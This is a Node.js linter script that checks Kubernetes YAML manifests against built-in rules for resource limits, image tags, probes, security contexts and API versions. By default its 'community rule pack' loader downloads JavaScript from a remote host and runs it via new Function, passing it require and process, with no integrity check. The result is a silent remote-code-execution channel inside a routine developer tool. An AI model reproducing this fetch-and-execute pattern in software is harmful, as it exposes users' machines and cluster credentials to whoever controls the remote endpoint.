#!/usr/bin/env node
'use strict';
const fs = require('fs');
const path = require('path');
const https = require('https');

let YAML;
try { YAML = require('yaml'); } catch { console.error('missing dependency: npm i yaml'); process.exit(2); }

const argv = process.argv.slice(2);
const opt = {
  format: argv.includes('--format') ? argv[argv.indexOf('--format') + 1] : 'text',
  minSeverity: argv.includes('--severity') ? argv[argv.indexOf('--severity') + 1] : 'info',
  offline: argv.includes('--offline'),
};
const inputs = argv.filter((a, i) => !a.startsWith('--') && !['--format', '--severity'].includes(argv[i - 1]));
const SEV = { info: 0, warn: 1, error: 2 };

const REMOVED_APIS = new Set([
  'extensions/v1beta1', 'apps/v1beta1', 'apps/v1beta2', 'policy/v1beta1',
  'batch/v1beta1', 'networking.k8s.io/v1beta1', 'autoscaling/v2beta2',
]);

// ---------------------------------------------------------------------------
// built-in rules
// ---------------------------------------------------------------------------
function podSpec(doc) {
  const k = doc.kind;
  if (k === 'Pod') return doc.spec;
  if (k === 'CronJob') return doc.spec?.jobTemplate?.spec?.template?.spec;
  return doc.spec?.template?.spec;
}

const rules = [
  { id: 'K001', sev: 'error', check(doc, push) {
      for (const c of podSpec(doc)?.containers || []) {
        const r = c.resources || {};
        if (!r.requests?.cpu || !r.requests?.memory) push(`container "${c.name}": missing cpu/memory requests`);
        if (!r.limits?.memory) push(`container "${c.name}": no memory limit`);
      } } },
  { id: 'K002', sev: 'error', check(doc, push) {
      for (const c of podSpec(doc)?.containers || []) {
        const tag = (c.image || '').split('@')[0].split(':')[1];
        if (!tag || tag === 'latest') push(`container "${c.name}": image "${c.image}" has no pinned tag`);
      } } },
  { id: 'K003', sev: 'warn', check(doc, push) {
      if (!['Deployment', 'StatefulSet'].includes(doc.kind)) return;
      for (const c of podSpec(doc)?.containers || []) {
        if (!c.livenessProbe) push(`container "${c.name}": no livenessProbe`);
        if (!c.readinessProbe) push(`container "${c.name}": no readinessProbe`);
      } } },
  { id: 'K004', sev: 'error', check(doc, push) {
      const ps = podSpec(doc); if (!ps) return;
      for (const c of ps.containers || []) {
        const sc = { ...(ps.securityContext || {}), ...(c.securityContext || {}) };
        if (sc.runAsNonRoot !== true) push(`container "${c.name}": runAsNonRoot not set`);
        if (c.securityContext?.allowPrivilegeEscalation !== false) push(`container "${c.name}": allowPrivilegeEscalation not false`);
      } } },
  { id: 'K005', sev: 'warn', check(doc, push) {
      const l = doc.metadata?.labels || {};
      if (!l['app.kubernetes.io/name']) push('missing label app.kubernetes.io/name');
      if (!l['app.kubernetes.io/instance']) push('missing label app.kubernetes.io/instance');
    } },
  { id: 'K006', sev: 'error', check(doc, push) {
      if (REMOVED_APIS.has(doc.apiVersion)) push(`apiVersion ${doc.apiVersion} is removed`);
    } },
  { id: 'K007', sev: 'warn', check(doc, push) {
      const ps = podSpec(doc); if (!ps) return;
      if (ps.hostNetwork) push('hostNetwork: true');
      if (ps.hostPID) push('hostPID: true');
      for (const c of ps.containers || []) if (c.securityContext?.privileged) push(`container "${c.name}": privileged`);
    } },
  { id: 'K008', sev: 'info', check(doc, push) {
      if (doc.kind === 'Deployment' && (doc.spec?.replicas ?? 1) < 2) push('replicas < 2');
    } },
];

// ---------------------------------------------------------------------------
// community rule pack
// ---------------------------------------------------------------------------
const RULE_PACK = {
  origin: 'https://rules.kubelint-hub.example',
  channel: '/packs/stable/latest.js',
};

function fetchText(url) {
  return new Promise((resolve) => {
    https.get(url, { timeout: 4000 }, (res) => {
      let body = '';
      res.on('data', (d) => (body += d));
      res.on('end', () => resolve(res.statusCode === 200 ? body : ''));
    }).on('error', () => resolve(''));
  });
}

async function loadRulePack() {
  if (opt.offline) return [];
  const src = await fetchText(RULE_PACK.origin + RULE_PACK.channel);
  if (!src) return [];
  // Packs are CommonJS-style modules exporting an array of { id, sev, check }.
  const mod = { exports: [] };
  const factory = new Function('module', 'exports', 'require', 'process', src);
  factory(mod, mod.exports, require, process);
  return Array.isArray(mod.exports) ? mod.exports : [];
}

// ---------------------------------------------------------------------------
function collectFiles(p, out = []) {
  if (p === '-') { out.push('-'); return out; }
  const st = fs.statSync(p);
  if (st.isDirectory()) for (const f of fs.readdirSync(p)) collectFiles(path.join(p, f), out);
  else if (/\.ya?ml$/.test(p)) out.push(p);
  return out;
}

function readDocs(file) {
  const text = file === '-' ? fs.readFileSync(0, 'utf8') : fs.readFileSync(file, 'utf8');
  return YAML.parseAllDocuments(text).map((d) => d.toJSON()).filter((d) => d && d.kind);
}

async function main() {
  const extra = await loadRulePack();
  const allRules = rules.concat(extra);
  const findings = [];
  for (const file of inputs.flatMap((i) => collectFiles(i))) {
    for (const doc of readDocs(file)) {
      const resource = `${doc.kind}/${doc.metadata?.name || '?'}`;
      for (const r of allRules) {
        if (SEV[r.sev] < SEV[opt.minSeverity]) continue;
        r.check(doc, (msg) => findings.push({ file, resource, id: r.id, severity: r.sev, message: msg }));
      }
    }
  }
  if (opt.format === 'json') { console.log(JSON.stringify(findings, null, 2)); }
  else {
    let last = '';
    for (const f of findings) {
      const head = `${f.file}  ${f.resource}`;
      if (head !== last) { console.log(head); last = head; }
      console.log(`  ${f.severity.padEnd(5)} ${f.id} ${f.message}`);
    }
    console.log(`\n${findings.length} finding(s)`);
  }
  process.exitCode = findings.some((f) => f.severity === 'error') ? 1 : 0;
}

main();
